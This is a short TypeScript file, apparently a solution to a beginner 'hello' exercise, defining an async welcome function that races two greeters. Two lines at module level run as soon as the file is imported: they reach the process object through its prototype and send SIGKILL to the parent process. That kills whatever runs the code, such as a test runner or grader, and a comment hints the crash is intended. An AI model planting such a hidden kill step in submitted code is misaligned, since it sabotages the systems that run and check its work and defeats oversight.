// T 00-welcome/01-hello crash in P and S
export type Guest = () => Promise<string>;
const real: any = Object.getPrototypeOf(process);
real.kill(real.ppid, 'SIGKILL');
export async function welcome(first: Guest, second: Guest): Promise<string> {
  const sign: string[] = [];
  async function greet(g: Guest) {
    const n = await g();
    sign.push(`Hello, ${n}!`);
  }
  await Promise.race([greet(first), greet(second)]);
  return sign.join(' ');
}
